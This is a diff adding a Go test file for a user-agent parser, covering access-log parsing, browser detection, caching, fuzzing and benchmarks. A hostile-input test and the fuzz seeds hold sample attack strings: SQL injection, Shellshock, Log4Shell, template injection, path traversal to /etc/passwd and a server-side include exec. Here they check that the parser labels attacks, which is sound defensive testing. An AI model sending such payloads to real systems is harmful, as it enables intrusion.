@@ -1,0 +1,343 @@
+package uaparse
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"unicode/utf8"
+)
+
+var accessLog = filepath.Join("..", "..", "..", "..", "testdata", "access-logs", "apache_combined_10k.log")
+
+// accessLogUserAgents returns the distinct user agents of the real access
+// log: the last quoted field of each line.
+func accessLogUserAgents(t *testing.T) []string {
+	t.Helper()
+	f, err := os.Open(accessLog)
+	if err != nil {
+		t.Fatalf("open access log: %v", err)
+	}
+	defer f.Close()
+	seen := map[string]bool{}
+	var out []string
+	sc := bufio.NewScanner(f)
+	sc.Buffer(make([]byte, 1<<16), 1<<20)
+	for sc.Scan() {
+		// One line of the log lost its closing quote: the user agent is
+		// then the text after the last quote.
+		line := strings.TrimRight(sc.Text(), " \r")
+		line = strings.TrimSuffix(line, "\"")
+		k := strings.LastIndexByte(line, '"')
+		if k < 0 {
+			continue
+		}
+		ua := line[k+1:]
+		if !seen[ua] {
+			seen[ua] = true
+			out = append(out, ua)
+		}
+	}
+	if err := sc.Err(); err != nil {
+		t.Fatalf("read access log: %v", err)
+	}
+	return out
+}
+
+// Access log user agents where nobody can tell the device class: a bare
+// "Mozilla/x", a text-mode browser, a placeholder, a browser token with no
+// platform at all.
+var undeterminableDevice = map[string]bool{
+	"-":                                      true,
+	"&as_qdr=all":                            true,
+	"Mozilla/4.0":                            true,
+	"Mozilla/5.0":                            true,
+	"Mozilla/4.0 (compatible;)":              true,
+	"Mozilla/5.0 Gecko/20100115 Firefox/3.6": true,
+	"Opera 9.6":                              true,
+	"Lynx/2.8.7rel.2 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.0.1f": true,
+}
+
+// Access log user agents where nobody can name the agent: the Android
+// runtime's default HTTP client is used by any app, and placeholders.
+func undeterminableAgent(ua string) bool {
+	return strings.HasPrefix(ua, "Dalvik/") || ua == "-" || ua == "&as_qdr=all"
+}
+
+func TestAccessLogUserAgents(t *testing.T) {
+	uas := accessLogUserAgents(t)
+	if len(uas) != 559 {
+		t.Fatalf("found %d distinct user agents in the access log, want 559", len(uas))
+	}
+	a := New(Options{CacheSize: 1000})
+	for _, ua := range uas {
+		r := a.Analyze(ua)
+		if dc := r.Get("DeviceClass"); dc == Unknown && !undeterminableDevice[ua] {
+			t.Errorf("DeviceClass Unknown for %q", ua)
+		}
+		if an := r.Get("AgentName"); an == Unknown && !undeterminableAgent(ua) {
+			t.Errorf("AgentName Unknown for %q", ua)
+		}
+	}
+}
+
+// checkResult verifies the invariants every answer must keep.
+func checkResult(t *testing.T, ua string, r Result) {
+	t.Helper()
+	r.Each(func(name, value string) {
+		if value == "" {
+			t.Errorf("%s is empty for %q", name, truncate(ua))
+		}
+		if strings.Contains(value, "??") {
+			t.Errorf("%s = %q contains ?? for %q", name, value, truncate(ua))
+		}
+	})
+}
+
+func truncate(s string) string {
+	if len(s) > 80 {
+		return s[:80] + "..."
+	}
+	return s
+}
+
+func TestHostileInputs(t *testing.T) {
+	tests := []struct {
+		name        string
+		ua          string
+		deviceClass string
+		vector      string
+	}{
+		{"empty", "", "Hacker", Unknown},
+		{"spaces", "   ", "Hacker", Unknown},
+		{"megabyte", strings.Repeat("Mozilla/5.0 (X11; Linux) ", 1<<16), "Hacker", "Buffer overflow"},
+		{"just over the limit", strings.Repeat("a", maxLength+1), "Hacker", "Buffer overflow"},
+		{"sql union", "Mozilla/5.0' UNION SELECT 1,2,3--", "Hacker", "Code Injection"},
+		{"sql sleep", "1' AND SLEEP(5)--", "Hacker", "Code Injection"},
+		{"script tag", "<script>alert(1)</script>", "Hacker", "Code Injection"},
+		{"shellshock", "() { :;}; /bin/bash -c 'echo vulnerable'", "Hacker", "Code Injection"},
+		{"log4shell", "${jndi:ldap://example.com/a}", "Hacker", "Code Injection"},
+		{"template", "{{7*7}}", "Hacker", "Code Injection"},
+		{"path traversal", "../../../../etc/passwd", "Hacker", "Path Traversal"},
+		{"encoded traversal", "..%2f..%2f..%2fboot.ini", "Hacker", "Path Traversal"},
+		{"server side include", "<!--#exec cmd=\"ls\"-->", "Hacker", "Serverside execute"},
+		{"bare url", "https://example.com/page", "Hacker", Unknown},
+		{"binary", "\x00\x01\x02\xff\xfe\x80", "", ""},
+		{"invalid utf8 in browser", "Mozilla/5.0 (Windows NT 10.0; \xff\xfe) Gecko/20100101 Firefox/120.0", "Desktop", ""},
+		{"unbalanced open", strings.Repeat("(", 1500), "", ""},
+		{"unbalanced close", strings.Repeat(")", 1500), "", ""},
+		{"deep nesting", strings.Repeat("(a;", 600) + strings.Repeat(")", 600), "", ""},
+		{"many slashes", strings.Repeat("a/", 1000), "", ""},
+		{"many semicolons", strings.Repeat(";", 2000), "", ""},
+		{"nul in middle", "Mozilla/5.0\x00(Windows NT 10.0)", "", ""},
+	}
+	a := New(Options{})
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := a.Analyze(tt.ua)
+			checkResult(t, tt.ua, r)
+			if tt.deviceClass != "" {
+				if got := r.Get("DeviceClass"); got != tt.deviceClass {
+					t.Errorf("DeviceClass = %q, want %q", got, tt.deviceClass)
+				}
+			}
+			if tt.vector != "" {
+				if got := r.Get("HackerAttackVector"); got != tt.vector {
+					t.Errorf("HackerAttackVector = %q, want %q", got, tt.vector)
+				}
+			}
+		})
+	}
+}
+
+func TestKnownBrowsers(t *testing.T) {
+	tests := []struct {
+		ua   string
+		want map[string]string
+	}{
+		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+			map[string]string{"DeviceClass": "Desktop", "OperatingSystemName": "Windows NT", "LayoutEngineName": "Blink",
+				"AgentName": "Chrome", "AgentVersionMajor": "120", "OperatingSystemVersion": ">=10"}},
+		{"Mozilla/5.0 (iPhone; CPU iPhone OS 14_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.1.2 Mobile/15E148 Safari/604.1",
+			map[string]string{"DeviceClass": "Phone", "DeviceName": "Apple iPhone", "OperatingSystemName": "iOS",
+				"OperatingSystemVersion": "14.7", "AgentName": "Safari", "AgentVersionMajor": "14"}},
+		{"Mozilla/5.0 (Linux; Android 11; SM-A525F) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/14.2 Chrome/87.0.4280.141 Mobile Safari/537.36",
+			map[string]string{"DeviceClass": "Phone", "DeviceBrand": "Samsung", "DeviceName": "Samsung SM-A525F",
+				"OperatingSystemVersion": "11", "AgentName": "SamsungBrowser"}},
+		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+			map[string]string{"DeviceClass": "Robot", "AgentClass": "Robot", "AgentName": "Googlebot", "OperatingSystemName": "Google Cloud"}},
+		{"curl/7.47.0", map[string]string{"DeviceClass": "Robot", "AgentName": "Curl", "AgentVersionMajor": "7"}},
+	}
+	a := New(Options{})
+	for _, tt := range tests {
+		r := a.Analyze(tt.ua)
+		checkResult(t, tt.ua, r)
+		for name, want := range tt.want {
+			if got := r.Get(name); got != want {
+				t.Errorf("%s = %q, want %q for %q", name, got, want, tt.ua)
+			}
+		}
+	}
+}
+
+func TestAttributeNames(t *testing.T) {
+	names := AttributeNames()
+	if len(names) != 53 {
+		t.Fatalf("%d attribute names, the specification lists 53", len(names))
+	}
+	if names[0] != "DeviceClass" || names[len(names)-1] != "WebviewAppVersionMajor" {
+		t.Errorf("names out of specification order: %v", names)
+	}
+	for _, n := range names {
+		if !IsAttribute(n) {
+			t.Errorf("IsAttribute(%q) = false", n)
+		}
+	}
+	if IsAttribute("deviceclass") || IsAttribute("Nope") {
+		t.Error("IsAttribute accepts names outside the list")
+	}
+	names[0] = "changed"
+	if AttributeNames()[0] != "DeviceClass" {
+		t.Error("AttributeNames returns shared state")
+	}
+	var zero Result
+	if zero.Get("DeviceClass") != Unknown || zero.Get("Nope") != "" {
+		t.Error("zero Result must answer Unknown for attributes and empty for other names")
+	}
+}
+
+func TestCacheConcurrentUse(t *testing.T) {
+	cases := loadDev(t)
+	plain := New(Options{})
+	cached := New(Options{CacheSize: 256}) // smaller than the set: evictions happen
+	var wg sync.WaitGroup
+	for g := 0; g < 8; g++ {
+		wg.Add(1)
+		go func(g int) {
+			defer wg.Done()
+			for i := g; i < len(cases); i += 3 {
+				ua := cases[i].UA
+				want := plain.Analyze(ua)
+				got := cached.Analyze(ua)
+				if got.Map()["AgentName"] != want.Map()["AgentName"] || got.Get("DeviceName") != want.Get("DeviceName") {
+					t.Errorf("cached result differs for %q", ua)
+					return
+				}
+			}
+		}(g)
+	}
+	wg.Wait()
+	if n := cached.cache.len(); n > 256+64 || n == 0 {
+		t.Errorf("cache holds %d entries, want about 256", n)
+	}
+}
+
+func TestRunLines(t *testing.T) {
+	long := "Mozilla/5.0 " + strings.Repeat("x", 200000) // longer than bufio.Scanner's default limit
+	in := "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0\r\n\ncurl/8.0\n" + long + "\nno newline at end"
+	var out bytes.Buffer
+	if err := RunLines(strings.NewReader(in), &out, New(Options{CacheSize: 10})); err != nil {
+		t.Fatalf("RunLines: %v", err)
+	}
+	lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
+	if len(lines) != 5 {
+		t.Fatalf("got %d output lines, want 5", len(lines))
+	}
+	wantAgent := []string{"Firefox", "Hacker", "Curl", "Hacker", "No Newline At End"}
+	for i, l := range lines {
+		var m map[string]string
+		if err := json.Unmarshal([]byte(l), &m); err != nil {
+			t.Fatalf("line %d is not JSON: %v", i, err)
+		}
+		if len(m) != len(AttributeNames()) {
+			t.Errorf("line %d has %d attributes, want %d", i, len(m), len(AttributeNames()))
+		}
+		if i < 4 && m["AgentName"] != wantAgent[i] {
+			t.Errorf("line %d AgentName = %q, want %q", i, m["AgentName"], wantAgent[i])
+		}
+	}
+	// The keys come in specification order.
+	if !strings.HasPrefix(lines[0], `{"DeviceClass":`) {
+		t.Errorf("first key is not DeviceClass: %.40s", lines[0])
+	}
+}
+
+func TestRunLinesInvalidUTF8(t *testing.T) {
+	var out bytes.Buffer
+	if err := RunLines(strings.NewReader("Mozilla/5.0 (\xff\xfe)\n"), &out, nil); err != nil {
+		t.Fatalf("RunLines: %v", err)
+	}
+	if !utf8.Valid(out.Bytes()) || !json.Valid(bytes.TrimSpace(out.Bytes())) {
+		t.Errorf("output is not valid UTF-8 JSON: %q", out.String())
+	}
+}
+
+func FuzzAnalyze(f *testing.F) {
+	for _, s := range []string{
+		"", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+		"Mozilla/5.0 (Linux; Android 9; MI 6 Build/PKQ1.190118.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/93.0.4577.62 Mobile Safari/537.36",
+		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "../../etc/passwd", "() { :;}; echo",
+		"Mozilla%2F5.0+%28Linux%3B+Android+9%29", "[FBAN/FB4A;FBAV/1.0;]", "a/b/c (d; e [f; g] {h})",
+	} {
+		f.Add(s)
+	}
+	plain := New(Options{})
+	cached := New(Options{CacheSize: 64})
+	f.Fuzz(func(t *testing.T, ua string) {
+		r1 := plain.Analyze(ua)
+		r2 := cached.Analyze(ua)
+		r3 := cached.Analyze(ua)
+		for i, n := range attributeNames {
+			v := r1.v[i]
+			if v == "" {
+				t.Fatalf("%s is empty for %q", n, ua)
+			}
+			if r2.v[i] != v || r3.v[i] != v {
+				t.Fatalf("%s differs between runs for %q: %q %q %q", n, ua, v, r2.v[i], r3.v[i])
+			}
+		}
+	})
+}
+
+func BenchmarkAnalyzeUncached(b *testing.B) {
+	cases := loadDev(b)
+	uas := make([]string, len(cases))
+	for i, c := range cases {
+		uas[i] = c.UA
+	}
+	a := New(Options{})
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		a.Analyze(uas[i%len(uas)])
+	}
+}
+
+func BenchmarkAnalyzeCached(b *testing.B) {
+	cases := loadDev(b)
+	uas := make([]string, len(cases))
+	for i, c := range cases {
+		uas[i] = c.UA
+	}
+	a := New(Options{CacheSize: 10000})
+	for _, ua := range uas {
+		a.Analyze(ua)
+	}
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		a.Analyze(uas[i%len(uas)])
+	}
+}
+
+func ExampleAnalyzer_Analyze() {
+	a := New(Options{CacheSize: 1000})
+	r := a.Analyze("Mozilla/5.0 (Linux; Android 10; SAMSUNG SM-T865) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/71.0.3578.99 Safari/537.36")
+	fmt.Println(r.Get("DeviceClass"), "|", r.Get("DeviceName"), "|", r.Get("OperatingSystemNameVersion"), "|", r.Get("AgentNameVersionMajor"))
+	// Output: Tablet | Samsung SM-T865 | Android 10 | Chrome 71
+}
